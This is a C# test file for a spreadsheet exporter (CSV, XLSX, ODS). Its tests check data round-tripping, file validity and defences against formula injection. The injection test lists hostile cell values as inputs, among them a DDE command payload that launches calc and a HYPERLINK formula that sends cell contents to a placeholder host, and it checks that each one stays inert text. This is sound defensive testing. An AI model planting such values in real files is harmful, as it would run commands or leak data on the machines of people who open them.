using System.IO.Compression;
using System.Text;
using System.Xml.Linq;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Validation;
using Registry.Documents;

namespace Registry.Tests.Documents;

/// <summary>What is written into a table is what another program reads out of it, and never runs there.</summary>
public sealed class TableTests
{
    private static readonly TableAbout About = new("Registre d’essai", [("Exporté le", new DateTime(2026, 11, 22, 9, 5, 0)), ("Fiches", 3), ("Rien", null)], "Exporté par A & B");

    public static TheoryData<TableFormat> Formats => [TableFormat.Csv, TableFormat.Xlsx, TableFormat.Ods];

    public static TheoryData<TableFormat, string> HostileCells
    {
        get
        {
            var cells = new TheoryData<TableFormat, string>();
            foreach (var format in new[] { TableFormat.Csv, TableFormat.Xlsx, TableFormat.Ods })
                foreach (var text in new[]
                {
                    "=1+1", "+33 6", "-5", "@SUM(A1)", "\t=1", "\n=1", "  =1", "\u00A0=1", "\u3000@x", "\u200B=1", "\uFEFF-1", "＝1+1", "＋1", "－1", "＠x", " ＝1", "'=1", "''@x",
                    "=HYPERLINK(\"http://a.example/\"&A1;\"ici\")", "=cmd|' /C calc'!A0", "\"=1\"", "a\";=1", "x\n=1",
                }) cells.Add(format, text);
            return cells;
        }
    }

    [Theory, MemberData(nameof(HostileCells))]
    [Trait("S", "14")]
    public void A_text_that_looks_like_a_formula_stays_the_text_it_was(TableFormat format, string text)
    {
        var file = Write(format, [[text, "voisin"]]);
        var read = ReadTables.Read(format, file)[0].Rows[1];
        Assert.Equal(text, read[0]);
        Assert.Equal("voisin", read[1]);
        switch (format)
        {
            case TableFormat.Csv:
                var first = ((string)ReadTables.Csv(file, keepMarks: true)[1][0]!).TrimStart().TrimStart('\u200B', '\uFEFF');
                Assert.DoesNotContain(first[0], "=+-@＝＋－＠");
                break;
            case TableFormat.Xlsx:
                using (var book = SpreadsheetDocument.Open(new MemoryStream(file), isEditable: false))
                {
                    var cells = ((WorksheetPart)book.WorkbookPart!.GetPartById("rId1")).Worksheet.Descendants<DocumentFormat.OpenXml.Spreadsheet.Cell>().ToList();
                    Assert.DoesNotContain(cells, cell => cell.CellFormula is not null);
                    var style = cells.Single(cell => cell.CellReference == "A2").StyleIndex!;
                    var written = book.WorkbookPart.WorkbookStylesPart!.Stylesheet.CellFormats!.Elements<DocumentFormat.OpenXml.Spreadsheet.CellFormat>().ElementAt((int)style.Value);
                    Assert.Equal(CellText.IsHostile(text), written.QuotePrefix?.Value ?? false);
                }
                break;
            default:
                Assert.DoesNotContain("formula", Part(file, "content.xml"), StringComparison.OrdinalIgnoreCase);
                break;
        }
    }

    [Theory, MemberData(nameof(Formats))]
    public void Text_numbers_and_real_dates_come_back(TableFormat format)
    {
        const string text = "ligne une\nligne deux, « guillemets » \"droits\"  deux blancs <b>&amp;</b> 𝔘 _x0041_ ";
        object?[] row = [text, 42, new DateOnly(2026, 11, 22), new DateTime(2026, 3, 29, 2, 30, 0), null];
        var read = ReadTables.Read(format, Write(format, [row]))[0].Rows;
        Assert.Equal(["Titre", "Suite", "Jour", "Moment", "Vide"], read[0]);
        Assert.Equal(text, read[1][0]);
        Assert.Equal(42.0, Convert.ToDouble(read[1][1], System.Globalization.CultureInfo.InvariantCulture));
        if (format == TableFormat.Csv) Assert.Equal(["2026-11-22", "2026-03-29 02:30"], read[1][2..4]);
        else Assert.Equal([new DateTime(2026, 11, 22), new DateTime(2026, 3, 29, 2, 30, 0)], read[1][2..4]);
        Assert.Null(read[1].ElementAtOrDefault(4));
    }

    [Theory, MemberData(nameof(Formats))]
    public void Days_that_Excel_counts_differently_are_still_the_same_days(TableFormat format)
    {
        var read = ReadTables.Read(format, Write(format, [["a", 1, new DateOnly(1900, 1, 15)]]))[0].Rows[1][2];
        Assert.Contains("1900", Convert.ToString(read, System.Globalization.CultureInfo.InvariantCulture));
        Assert.Contains("15", Convert.ToString(read, System.Globalization.CultureInfo.InvariantCulture));
    }

    [Theory, MemberData(nameof(Formats))]
    public void What_XML_cannot_say_does_not_break_the_file(TableFormat format)
    {
        var read = (string)ReadTables.Read(format, Write(format, [["a\uFFFFb\u0001c\uD800d"]]))[0].Rows[1][0]!;
        Assert.StartsWith("a", read);
        Assert.EndsWith("d", read);
    }

    [Theory, MemberData(nameof(Formats))]
    public void A_table_without_rows_is_a_head(TableFormat format) => Assert.Single(ReadTables.Read(format, Write(format, []))[0].Rows);

    [Fact]
    public void Text_longer_than_an_Excel_cell_is_cut_there_and_says_so()
    {
        var text = string.Concat(Enumerable.Repeat("𝔘", 20_000));
        Assert.Equal(text, ReadTables.Ods(Write(TableFormat.Ods, [[text]]))[0].Rows[1][0]);
        var cut = (string)ReadTables.Xlsx(Write(TableFormat.Xlsx, [[text]]))[0].Rows[1][0]!;
        Assert.True(cut.Length <= 32_767);
        Assert.Contains("texte coupé", cut);
    }

    [Fact]
    public void The_workbook_is_what_the_standard_says_with_its_head_frozen_and_a_page_about_it()
    {
        var file = Write(TableFormat.Xlsx, [["un", 1, new DateOnly(2026, 1, 1), new DateTime(2026, 1, 1, 8, 0, 0), "=x"], ["deux"]]);
        using var book = SpreadsheetDocument.Open(new MemoryStream(file), isEditable: false);
        var faults = new OpenXmlValidator(DocumentFormat.OpenXml.FileFormatVersions.Office2016).Validate(book, TestContext.Current.CancellationToken).Select(fault => $"{fault.Path?.XPath} {fault.Description}").ToList();
        Assert.True(faults.Count == 0, string.Join('\n', faults));
        var sheet = Part(file, "xl/worksheets/sheet1.xml");
        Assert.Contains("state=\"frozen\"", sheet);
        Assert.Contains("<autoFilter ref=\"A1:E3\"", sheet);
        Assert.Contains("A &amp;&amp; B", sheet);
        var about = ReadTables.Xlsx(file)[1];
        Assert.Equal("À propos", about.Name);
        Assert.Equal("Registre d’essai", about.Rows[0][0]);
        Assert.Equal(new DateTime(2026, 11, 22, 9, 5, 0), about.Rows[1][1]);
    }

    [Fact]
    public void An_OpenDocument_file_begins_with_its_kind_uncompressed_and_freezes_its_head()
    {
        var file = Write(TableFormat.Ods, [["un"]]);
        Assert.Equal("PK\u0003\u0004"u8.ToArray(), file[..4]);
        Assert.Equal(0, BitConverter.ToUInt16(file, 8));   // stored
        Assert.Equal(0, BitConverter.ToUInt16(file, 28));  // no extra field
        Assert.Equal("mimetype" + OdsTable.Kind, Encoding.ASCII.GetString(file, 30, 8 + OdsTable.Kind.Length));
        Assert.Contains("VerticalSplitPosition", Part(file, "settings.xml"));
        foreach (var path in new[] { "content.xml", "styles.xml", "settings.xml", "META-INF/manifest.xml" }) Assert.NotNull(XDocument.Parse(Part(file, path)).Root);
        Assert.Equal("À propos", ReadTables.Ods(file)[1].Name);
    }

    private static byte[] Write(TableFormat format, IReadOnlyList<object?[]> rows)
    {
        var stream = new MemoryStream();
        using (var table = TableWriter.Open(format, stream, "Registre : l’été [1]", [new("Titre", 40), new("Suite", 12), new("Jour", 12), new("Moment", 16), new("Vide", 8)]))
        {
            foreach (var row in rows) table.Row(row);
            table.Finish(About);
        }
        return stream.ToArray();
    }

    private static string Part(byte[] file, string path)
    {
        using var zip = new ZipArchive(new MemoryStream(file));
        using var reader = new StreamReader(zip.GetEntry(path)!.Open());
        return reader.ReadToEnd();
    }
}
